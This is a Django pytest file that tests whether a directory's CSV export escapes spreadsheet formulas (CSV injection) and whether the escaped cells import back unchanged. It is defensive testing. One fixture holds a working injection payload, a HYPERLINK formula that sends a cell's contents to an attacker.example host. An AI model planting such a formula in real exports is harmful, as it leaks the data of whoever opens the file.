"""The CSV cells of the directory export (importexport/cells.py): no cell starts a formula in
a spreadsheet (CSV injection), and the quoting round-trips on import."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from cbmhub.core.spreadsheet import spreadsheet_safe, spreadsheet_unquote
from cbmhub.directory import importexport, services
from cbmhub.directory.models import PointOfContact

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.example/?"&A2,"Open")'
PLUS = "+1 555 0100 (call first)"
QUOTED = "'=already quoted by hand"


@pytest.fixture
def planted(alice, poc_a):
    """A focal point of state A plants spreadsheet formulas in its own point of contact, which
    it may edit; the secretariat of any organisation later exports the directory."""
    return services.point_of_contact_update(
        actor=alice, point_of_contact=poc_a, notes=FORMULA, person_name=PLUS, function=QUOTED
    )


def _rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8"))))


def test_csv_export_does_not_start_a_cell_with_a_formula(api_for, sam, planted):
    url = reverse("api:directory-export") + "?format=csv&kind=points_of_contact"
    response = api_for(sam).get(url)
    assert response.status_code == 200
    cells = [cell for row in _rows(response.content) for cell in row]
    assert cells, "the export has rows"
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + FORMULA in cells and "'" + PLUS in cells and "'" + QUOTED in cells


def test_csv_export_with_quoted_cells_imports_back_unchanged(api_for, sam, planted):
    exported = importexport.export_csv("points_of_contact")
    upload = SimpleUploadedFile("pocs.csv", exported.encode(), content_type="text/csv")
    response = api_for(sam).post(
        reverse("api:directory-import"),
        {"file": upload, "kind": "points_of_contact"},
        format="multipart",
    )
    assert response.status_code == 200, response.content
    summary = response.json()["summary"]["points_of_contact"]
    assert summary["updated"] == 0 and summary["created"] == 0
    poc = PointOfContact.objects.get(pk=planted.pk)
    assert (poc.notes, poc.person_name, poc.function) == (FORMULA, PLUS, QUOTED)


def test_csv_import_keeps_a_plain_apostrophe(sam, poc_a):
    # Only an apostrophe that quotes a formula character is removed on import.
    assert spreadsheet_unquote("'twas") == "'twas"
    assert spreadsheet_unquote("'=1+1") == "=1+1"
    assert spreadsheet_unquote("''=1+1") == "'=1+1"


def test_a_cell_of_many_apostrophes_is_checked_without_recursion():
    # The check was recursive, one call per leading apostrophe: a cell of a few thousand
    # apostrophes (a CSV upload or a stored note) raised RecursionError, a 500.
    text = "'" * 50_000 + "=1+1"
    assert spreadsheet_safe(text) == "'" + text
    assert spreadsheet_unquote("'" + text) == text
    assert spreadsheet_safe("'" * 50_000) == "'" * 50_000
